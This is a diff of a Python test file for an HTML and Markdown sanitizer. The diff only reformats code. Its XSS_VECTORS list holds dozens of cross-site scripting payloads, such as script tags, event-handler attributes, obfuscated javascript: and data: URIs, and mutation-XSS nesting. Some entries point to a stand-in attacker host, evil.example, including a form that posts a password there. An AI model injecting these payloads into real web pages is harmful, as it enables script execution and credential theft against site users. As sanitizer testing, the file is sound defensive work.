@@ -16,16 +16,16 @@ XSS_VECTORS = [
     "<script>alert(1)</script>",
     "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
     "<img src=x onerror=alert(1)>",
-    "<img src=\"javascript:alert(1)\">",
-    "<a href=\"javascript:alert(1)\">x</a>",
-    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
-    "<a href=\"  javascript:alert(1)\">x</a>",
-    "<a href=\"java\tscript:alert(1)\">x</a>",
-    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
-    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
-    "<a href=\"javascript&colon;alert(1)\">x</a>",
-    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
-    "<a href=\"vbscript:msgbox(1)\">x</a>",
+    '<img src="javascript:alert(1)">',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="JaVaScRiPt:alert(1)">x</a>',
+    '<a href="  javascript:alert(1)">x</a>',
+    '<a href="java\tscript:alert(1)">x</a>',
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+    '<a href="&#x6A;avascript:alert(1)">x</a>',
+    '<a href="javascript&colon;alert(1)">x</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>',
     "[click](javascript:alert(1))",
     "[click](JAVASCRIPT:alert(1))",
     "[click](&#106;avascript:alert(1))",
@@ -35,35 +35,35 @@ XSS_VECTORS = [
     "<svg onload=alert(1)>",
     "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
-    "<form action=\"https://evil.example\"><input name=password></form>",
-    "<iframe src=\"https://evil.example\"></iframe>",
-    "<iframe src=\"javascript:alert(1)\"></iframe>",
-    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
-    "<p style=\"background:url(javascript:alert(1))\">x</p>",
-    "<div onclick=\"alert(1)\">x</div>",
+    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    '<form action="https://evil.example"><input name=password></form>',
+    '<iframe src="https://evil.example"></iframe>',
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<p style="background:url(javascript:alert(1))">x</p>',
+    '<div onclick="alert(1)">x</div>',
     "<body onload=alert(1)>",
-    "<object data=\"javascript:alert(1)\"></object>",
-    "<embed src=\"javascript:alert(1)\">",
-    "<base href=\"https://evil.example/\">",
-    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
-    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
+    '<object data="javascript:alert(1)"></object>',
+    '<embed src="javascript:alert(1)">',
+    '<base href="https://evil.example/">',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<link rel=stylesheet href="https://evil.example/x.css">',
     "<style>body{background:url(https://evil.example/)}</style>",
     "<details open ontoggle=alert(1)>",
-    "<video><source onerror=\"alert(1)\"></video>",
+    '<video><source onerror="alert(1)"></video>',
     "<audio src=x onerror=alert(1)>",
-    "<a href=\"https://ok.example\" onmouseover=\"alert(1)\">x</a>",
+    '<a href="https://ok.example" onmouseover="alert(1)">x</a>',
     "<!--<img src=x onerror=alert(1)>-->",
-    "<img src=\"x\" alt=\"\" /onerror=alert(1)>",
+    '<img src="x" alt="" /onerror=alert(1)>',
     "<<script>alert(1)//<</script>",
     "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<a href=\"//evil.example\">protocol-relative</a>",
-    "<img src=\"https://tracker.example/pixel.gif\">",
+    '<a href="//evil.example">protocol-relative</a>',
+    '<img src="https://tracker.example/pixel.gif">',
     "<template><script>alert(1)</script></template>",
     "<textarea><script>alert(1)</script></textarea>",
     "<input autofocus onfocus=alert(1)>",
-    "<a href=\"#\" class=\"button danger-zone\">spoofed class</a>",
+    '<a href="#" class="button danger-zone">spoofed class</a>',
 ]
 
 BAD_SCHEMES = ("javascript:", "data:", "vbscript:")
@@ -75,8 +75,23 @@ def dangerous_parts(html: str) -> list[str]:
     tree = html5lib.parse(html, namespaceHTMLElements=False)
     for element in tree.iter():
         tag = element.tag if isinstance(element.tag, str) else ""
-        if tag in {"script", "style", "svg", "math", "form", "input", "object", "embed", "base", "meta",
-                   "link", "noscript", "template", "textarea", "body"} and element is not tree.find("body"):
+        if tag in {
+            "script",
+            "style",
+            "svg",
+            "math",
+            "form",
+            "input",
+            "object",
+            "embed",
+            "base",
+            "meta",
+            "link",
+            "noscript",
+            "template",
+            "textarea",
+            "body",
+        } and element is not tree.find("body"):
             if tag != "body":
                 found.append(f"<{tag}>")
         for name, value in element.attrib.items():
@@ -109,7 +124,9 @@ def test_big_list_style_strings_survive_as_text():
 def test_allow_listed_video_iframe_stays():
     html = render('<iframe src="https://www.youtube-nocookie.com/embed/abc" title="Interview"></iframe>')
     assert 'src="https://www.youtube-nocookie.com/embed/abc"' in html and 'title="Interview"' in html
-    assert 'src="https://player.vimeo.com/video/1"' in render('<iframe src="https://player.vimeo.com/video/1"></iframe>')
+    assert 'src="https://player.vimeo.com/video/1"' in render(
+        '<iframe src="https://player.vimeo.com/video/1"></iframe>'
+    )
 
 
 def test_markdown_features():
